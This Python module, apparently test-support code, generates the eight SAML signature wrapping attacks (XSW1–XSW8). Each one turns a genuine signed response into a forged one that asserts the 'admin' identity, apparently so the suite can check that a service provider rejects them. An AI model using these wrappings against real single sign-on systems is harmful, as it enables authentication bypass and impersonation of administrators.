"""What an attacker makes of a signed SAML message: signature wrapping as SAML Raider names it, and changes in text.

Source of XSW1 to XSW8: Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012), and the
tool SAML Raider. Each takes a genuine document and returns one that shows the victim the attacker's statement.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from typing import Any, Final

from lxml import etree

from tests.support.saml_idp import DS, SAML, SAMLP

ADMIN: Final = "admin"


def _parts(document: bytes) -> tuple[Any, Any]:
    root = etree.fromstring(document)
    return root, root.find(f"{{{SAML}}}Assertion")


def _without_signature(element: Any) -> Any:
    twin = copy.deepcopy(element)
    for signature in twin.findall(f"{{{DS}}}Signature"):
        twin.remove(signature)
    return twin


def _evil(assertion: Any, evil_id: str | None, *, with_signature: bool = False) -> Any:
    """Return the attacker's copy of an assertion; `evil_id` None keeps the id."""
    twin = copy.deepcopy(assertion) if with_signature else _without_signature(assertion)
    next(twin.iter(f"{{{SAML}}}NameID")).text = ADMIN
    if evil_id is not None:
        twin.set("ID", evil_id)
    return twin


def _evil_response(root: Any, evil_id: str | None) -> Any:
    twin = copy.deepcopy(root)
    next(twin.iter(f"{{{SAML}}}NameID")).text = ADMIN
    if evil_id is not None:
        twin.set("ID", evil_id)
    return twin


def _signature_of(element: Any) -> Any:
    found = element.find(f"{{{DS}}}Signature")
    return found if found is not None else next(element.iter(f"{{{DS}}}Signature"))


def xsw1(document: bytes, evil_id: str | None) -> bytes:
    """The genuine Response, without its signature, inside the signature of a false one."""
    root, _ = _parts(document)
    evil = _evil_response(root, evil_id)
    _signature_of(evil).append(_without_signature(root))
    return bytes(etree.tostring(evil))


def xsw2(document: bytes, evil_id: str | None) -> bytes:
    """The genuine Response beside the signature in a false one."""
    root, _ = _parts(document)
    evil = _evil_response(root, evil_id)
    _signature_of(evil).addprevious(_without_signature(root))
    return bytes(etree.tostring(evil))


def xsw3(document: bytes, evil_id: str | None) -> bytes:
    """A false assertion before the genuine one."""
    root, assertion = _parts(document)
    assertion.addprevious(_evil(assertion, evil_id))
    return bytes(etree.tostring(root))


def xsw4(document: bytes, evil_id: str | None) -> bytes:
    """The genuine assertion inside a false one."""
    root, assertion = _parts(document)
    evil = _evil(assertion, evil_id)
    root.replace(assertion, evil)
    evil.append(assertion)
    return bytes(etree.tostring(root))


def xsw5(document: bytes, evil_id: str | None) -> bytes:
    """A false assertion with the signature, and the genuine one, without it, at the end."""
    root, assertion = _parts(document)
    evil = _evil(assertion, evil_id, with_signature=True)
    genuine = _without_signature(assertion)
    root.replace(assertion, evil)
    root.append(genuine)
    return bytes(etree.tostring(root))


def xsw6(document: bytes, evil_id: str | None) -> bytes:
    """The genuine assertion inside the signature of a false one."""
    root, assertion = _parts(document)
    evil = _evil(assertion, evil_id, with_signature=True)
    root.replace(assertion, evil)
    signatures = evil.findall(f"{{{DS}}}Signature") or root.findall(f"{{{DS}}}Signature")
    signatures[0].append(_without_signature(assertion))
    return bytes(etree.tostring(root))


def xsw7(document: bytes, evil_id: str | None) -> bytes:
    """A false assertion in Extensions."""
    root, assertion = _parts(document)
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    extensions.append(_evil(assertion, evil_id))
    root.find(f"{{{SAMLP}}}Status").addprevious(extensions)
    return bytes(etree.tostring(root))


def xsw8(document: bytes, evil_id: str | None) -> bytes:
    """A false assertion with the signature, and the genuine one in an Object of it."""
    root, assertion = _parts(document)
    evil = _evil(assertion, evil_id, with_signature=True)
    root.replace(assertion, evil)
    signatures = evil.findall(f"{{{DS}}}Signature") or root.findall(f"{{{DS}}}Signature")
    etree.SubElement(signatures[0], f"{{{DS}}}Object").append(_without_signature(assertion))
    return bytes(etree.tostring(root))


WRAPPINGS: Final[dict[str, Callable[[bytes, str | None], bytes]]] = {
    wrapping.__name__: wrapping for wrapping in (xsw1, xsw2, xsw3, xsw4, xsw5, xsw6, xsw7, xsw8)
}
